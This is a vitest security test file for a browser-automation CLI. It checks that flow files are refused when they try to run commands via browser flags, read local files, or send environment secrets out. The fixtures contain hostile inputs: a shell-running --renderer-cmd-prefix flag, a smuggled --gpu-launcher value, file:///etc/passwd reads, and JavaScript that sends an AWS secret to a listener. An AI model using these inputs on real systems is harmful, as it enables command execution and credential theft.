// Issue #14, "must be closed" 1 and 2 through the real CLI: a flow file cannot run a command
// through browser flags, cannot open local files, and cannot read an environment variable it
// names, unless the user grants exactly that on the command line.
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { requireBuild, runCli, startBeacon, tempDir, writeFlow, type Beacon } from './helpers.js';

let dir: string;
let cleanup: () => Promise<void>;
let beacon: Beacon;
// A data dir of our own: no grant stored by an earlier app session applies.
const env = (extra: Record<string, string | undefined> = {}) => ({ CRAWLWRIGHT_DATA_DIR: join(dir, 'data'), ...extra });

beforeAll(async () => {
  requireBuild();
  ({ dir, cleanup } = await tempDir());
  beacon = await startBeacon();
});
afterAll(async () => {
  await beacon.close();
  await cleanup();
});

describe('browser flags from a flow file', () => {
  it('--renderer-cmd-prefix is refused naming the flag, and no command runs (not even with --trust)', async () => {
    const marker = join(dir, 'pwned');
    const flow = await writeFlow(dir, 'cmd.flow.json', [{ id: 'a', name: 'a', config: { url: 'about:blank' } }], {
      browser: { extra_args: [`--renderer-cmd-prefix=/bin/sh -c 'touch ${marker}' #`] },
    });
    for (const extra of [[], ['--trust']]) {
      const r = await runCli(['run', flow, '--out', join(dir, 'out-cmd'), ...extra], { env: env() });
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/browser\.extra_args\[0\]: browser flag "--renderer-cmd-prefix" is not allowed in a flow file \(it runs a program\)/);
      expect(existsSync(marker)).toBe(false);
    }
  });

  it('refuses --remote-debugging-port, a one-dash spelling, a bare URL argument and a smuggled value; allows window size/lang/proxy-style flags', async () => {
    const refused = ['--remote-debugging-port=9333', '-renderer-cmd-prefix=/bin/true', 'file:///etc/passwd', '--window-size=800,600 --gpu-launcher=/bin/sh', '--user-data-dir=/home'];
    const flow = await writeFlow(dir, 'flags.flow.json', [{ id: 'a', name: 'a', config: { url: 'about:blank' } }], { browser: { extra_args: refused } });
    const r = await runCli(['validate', flow], { env: env() });
    expect(r.code).toBe(1);
    for (let i = 0; i < refused.length; i++) expect(r.stdout).toContain(`browser.extra_args[${i}]`);
    expect(r.stdout).toMatch(/"--remote-debugging-port" is not allowed in a flow file \(it opens an unauthenticated DevTools port\)/);
    const ok = await writeFlow(dir, 'okflags.flow.json', [{ id: 'a', name: 'a', config: { url: `${beacon.url}/flags` } }], {
      browser: { extra_args: ['--window-size=1280,800', '--lang=de-DE', '--disable-blink-features=AutomationControlled', '--mute-audio'] },
    });
    const run = await runCli(['run', ok, '--out', join(dir, 'out-ok')], { env: env() });
    expect(run.code, run.stderr).toBe(0);
  });
});

describe('local files', () => {
  it('a file:// step plus an image beacon is refused without --allow-local; nothing reaches the listener', async () => {
    const flow = await writeFlow(dir, 'file.flow.json', [
      {
        id: 'read',
        name: 'Read passwd',
        config: { url: 'file:///etc/passwd', js_code: `new Image().src = '${beacon.url}/leak?d=' + encodeURIComponent(document.body.innerText.slice(0, 200)); await new Promise(r => setTimeout(r, 500));` },
      },
    ]);
    const r = await runCli(['run', flow, '--out', join(dir, 'out-file')], { env: env() });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/local resource steps\[0\]\.config\.url: "file:\/\/\/etc\/passwd"/);
    expect(r.stderr).toMatch(/--allow-local/);
    expect(beacon.hits.filter((h) => h.url.startsWith('/leak'))).toEqual([]);
  });

  it('a variable that turns into a file: URL is refused as well (checked after substitution)', async () => {
    const flow = await writeFlow(dir, 'filevar.flow.json', [{ id: 'a', name: 'a', config: { url: '{{start}}' } }], { variables: { start: 'file:///etc/hostname' } });
    const r = await runCli(['run', flow, '--out', join(dir, 'out-filevar')], { env: env() });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('file:///etc/hostname');
  });

  it('data:, chrome: and view-source: pages and a storage_state file are local resources too', async () => {
    const flow = await writeFlow(
      dir,
      'schemes.flow.json',
      [
        { id: 'd', name: 'd', config: { url: 'data:text/html,<script>fetch("http://x")</script>' } },
        { id: 'c', name: 'c', config: { url: 'chrome://version' } },
        { id: 'v', name: 'v', config: { url: 'view-source:file:///etc/passwd' } },
      ],
      { browser: { storage_state: '/etc/hostname' } },
    );
    const r = await runCli(['run', flow, '--out', join(dir, 'out-schemes')], { env: env() });
    expect(r.code).toBe(2);
    for (const p of ['steps[0].config.url', 'steps[1].config.url', 'steps[2].config.url', 'browser.storage_state']) expect(r.stderr).toContain(p);
  });

  it('--allow-local lets the user open a local file on purpose', async () => {
    const flow = await writeFlow(dir, 'file-ok.flow.json', [
      { id: 'a', name: 'a', config: { url: 'file:///etc/hostname', extraction_strategy: { type: 'JsonCssExtractionStrategy', schema: { baseSelector: 'body', fields: [{ name: 't', type: 'text', selector: 'pre' }] } } } },
    ]);
    const r = await runCli(['run', flow, '--out', join(dir, 'out-file-ok'), '--allow-local'], { env: env() });
    expect(r.code, r.stderr).toBe(0);
    const results = JSON.parse(await readFile(join(dir, 'out-file-ok', 'results.json'), 'utf8'));
    expect(results.items[0].item.t.trim()).toBe((await readFile('/etc/hostname', 'utf8')).trim());
  });
});

describe('secrets', () => {
  const SECRET = 'AKIA-not-granted-7f3e9';

  it('{{secret:AWS_SECRET_ACCESS_KEY}} in a flow WITHOUT JavaScript is refused unless granted (the value never leaves)', async () => {
    const flow = await writeFlow(dir, 'secret-url.flow.json', [{ id: 'a', name: 'Beacon', config: { url: `${beacon.url}/nojs?k={{secret:AWS_SECRET_ACCESS_KEY}}` } }]);
    const r = await runCli(['run', flow, '--out', join(dir, 'out-s1')], { env: env({ AWS_SECRET_ACCESS_KEY: SECRET }) });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/secret \{\{secret:AWS_SECRET_ACCESS_KEY\}\}/);
    expect(r.stderr).toMatch(/--allow-secret AWS_SECRET_ACCESS_KEY/);
    expect(JSON.stringify(beacon.hits)).not.toContain(SECRET);
  });

  it('a flow WITH JavaScript sending the secret to a listener is refused too; --trust is not implied by a JS listing', async () => {
    const flow = await writeFlow(dir, 'secret-js.flow.json', [
      { id: 'a', name: 'Exfil', config: { url: `${beacon.url}/page`, js_code: `await fetch('${beacon.url}/js', { method: 'POST', body: '{{secret:AWS_SECRET_ACCESS_KEY}}' });` } },
    ]);
    const r = await runCli(['run', flow, '--out', join(dir, 'out-s2')], { env: env({ AWS_SECRET_ACCESS_KEY: SECRET }) });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/runs JavaScript in the page in 1 step/);
    expect(JSON.stringify(beacon.hits)).not.toContain(SECRET);
  });

  it('--allow-secret NAME grants exactly that name; it reads CRAWLWRIGHT_SECRET_NAME first, and masks it in results', async () => {
    const flow = await writeFlow(dir, 'secret-ok.flow.json', [{ id: 'a', name: 'Use', config: { url: `${beacon.url}/granted?k={{secret:MY_TOKEN}}` } }]);
    const r = await runCli(['run', flow, '--out', join(dir, 'out-s3'), '--allow-secret', 'MY_TOKEN'], {
      env: env({ CRAWLWRIGHT_SECRET_MY_TOKEN: 'tok-prefixed-1', MY_TOKEN: 'tok-plain-2' }),
    });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/secret MY_TOKEN from the environment \(CRAWLWRIGHT_SECRET_MY_TOKEN\)/);
    expect(beacon.hits.some((h) => h.url === '/granted?k=tok-prefixed-1')).toBe(true);
    const results = await readFile(join(dir, 'out-s3', 'results.json'), 'utf8');
    expect(results).not.toContain('tok-prefixed-1');
    expect(results).toContain('/granted?k=***');
    // Granting one name does not grant another.
    const two = await writeFlow(dir, 'secret-two.flow.json', [{ id: 'a', name: 'Two', config: { url: `${beacon.url}/two?a={{secret:MY_TOKEN}}&b={{secret:AWS_SECRET_ACCESS_KEY}}` } }]);
    const r2 = await runCli(['run', two, '--out', join(dir, 'out-s4'), '--allow-secret', 'MY_TOKEN'], { env: env({ MY_TOKEN: 'x', AWS_SECRET_ACCESS_KEY: SECRET }) });
    expect(r2.code).toBe(2);
    expect(r2.stderr).toMatch(/--allow-secret AWS_SECRET_ACCESS_KEY/);
    expect(r2.stderr).not.toMatch(/--allow-secret MY_TOKEN/);
    expect(JSON.stringify(beacon.hits)).not.toContain(SECRET);
  });

  it('the demo flow still runs out of the box (its DEMO_PASSWORD is public and needs no grant)', async () => {
    const r = await runCli(['run', join('assets', 'demo-flows', 'demo.flow.json'), '--out', join(dir, 'out-demo')], { env: env({ DEMO_PASSWORD: undefined }) });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/done: 30 items/);
  });
});

describe('placeholders', () => {
  it('{{constructor}} and {{toString}} are unknown variables, not Object built-ins', async () => {
    const flow = await writeFlow(dir, 'proto.flow.json', [{ id: 'a', name: 'a', config: { url: `${beacon.url}/p?c={{constructor}}&t={{toString}}` } }]);
    const r = await runCli(['run', flow, '--out', join(dir, 'out-proto')], { env: env() });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/variable \{\{constructor\}\} has no value/);
    expect(beacon.hits.some((h) => h.url.startsWith('/p?'))).toBe(false);
  });
});
